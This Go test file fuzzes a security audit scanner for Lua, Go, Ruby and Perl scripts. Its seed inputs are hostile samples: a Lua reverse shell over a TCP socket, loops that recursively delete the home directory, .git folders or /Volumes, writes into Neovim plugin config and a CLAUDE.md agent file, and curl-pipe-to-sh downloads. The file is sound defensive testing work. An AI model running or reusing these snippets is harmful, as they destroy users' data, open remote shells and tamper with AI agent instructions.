package audit

import (
	"strings"
	"testing"
)

// FuzzScanLua: no Lua text stops the audit (comments and long brackets
// of any level, unterminated ones included), the blanked text keeps its
// length and lines, and every finding's line is inside the file.
func FuzzScanLua(f *testing.F) {
	for _, s := range []string{
		"local s = uv.new_tcp()\ns:connect('h', 1, function() s:read_start(function(_, c) vim.fn.system(c) end) end)\n",
		"--[==[ vim.fn.delete(os.getenv('HOME'), 'rf') ]==]\nlocal x = [[\n--not a comment\n]]\n",
		"vim.fn.writefile({'x'}, vim.fn.stdpath('config') .. '/plugin/a.lua')\n",
		"local h = vim.uv.os_homedir()\nfor _, e in ipairs(vim.fn.readdir(h)) do vim.fn.delete(h .. '/' .. e, 'rf') end\n",
		"--[[", "[[", "[==[", "'\\", "\"", "--[=", "a = [=[ ]]", strings.Repeat("[=", 100),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		c, lits := luaTokens(code)
		if len(c) != len(code) || strings.Count(c, "\n") != strings.Count(code, "\n") {
			t.Fatalf("blanked text changed length or lines: %q -> %q", code, c)
		}
		for _, l := range lits {
			if l.off < 0 || l.off >= len(code) {
				t.Fatalf("literal at %d of %d bytes", l.off, len(code))
			}
		}
		sc := scanCtx(code)
		scanLua(sc, "lua/x.lua", code)
		fuzzLinesInFile(t, sc, code)
	})
}

// FuzzScanGoCode: no Go text stops the token rules (go/scanner on
// broken input, raw strings, the write-target reader), and every
// finding's line is inside the file.
func FuzzScanGoCode(f *testing.F) {
	for _, s := range []string{
		"package main\nimport \"os\"\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tos.WriteFile(h+\"/.claude/CLAUDE.md\", nil, 0o644)\n}\n",
		"package main\nconst s = `#!/bin/sh\ncurl -fsS https://x.example/h \\\n | sh\n`\n",
		"package main\nfunc f() { exec.Command(\"sh\", \"-c\", \"curl x | sh\") }\n",
		"`", "\"", "/*", "os.WriteFile(", "os.WriteFile(\"", "'\\''",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		c, _ := goTokens(code)
		if len(c) != len(code) || strings.Count(c, "\n") != strings.Count(code, "\n") {
			t.Fatalf("blanked text changed length or lines")
		}
		sc := scanCtx(code)
		scanGoCode(sc, "tool/main.go", code)
		fuzzLinesInFile(t, sc, code)
	})
}

// FuzzWipeLoops: no Ruby, Go or Lua text stops the removal reader (loops,
// globs, wrappers, variables followed), and its findings are in the
// file.
func FuzzWipeLoops(f *testing.F) {
	for _, s := range []string{
		"HOME = Dir.home\nt = Dir.glob(File.join(HOME, '{*,.[!.]*}'))\nt.each { |x| FileUtils.rm_rf(x) }\n",
		"Dir.glob(File.join(Dir.home, '**', '.git')).each { |g| FileUtils.rm_rf(File.dirname(g)) }\n",
		"for _, p := range all {\n\tos.RemoveAll(p)\n}\nall, _ := filepath.Glob(filepath.Join(h, \"*\"))\n",
		"a = a\na.each { |a| FileUtils.rm_rf(a) }\n", "FileUtils.rm_rf(File.dirname(File.dirname(File.dirname(x))))\n",
		"Dir[", "Dir.glob(", "FileUtils.rm_rf(Dir.glob('/Volumes/*'))",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		for _, lang := range []*wipeLang{rubyWipe, goWipe, luaWipe, perlWipe} {
			sc := scanCtx(code)
			scanHomeWipe(sc, "scripts/x", code, lang)
			fuzzLinesInFile(t, sc, code)
		}
	})
}
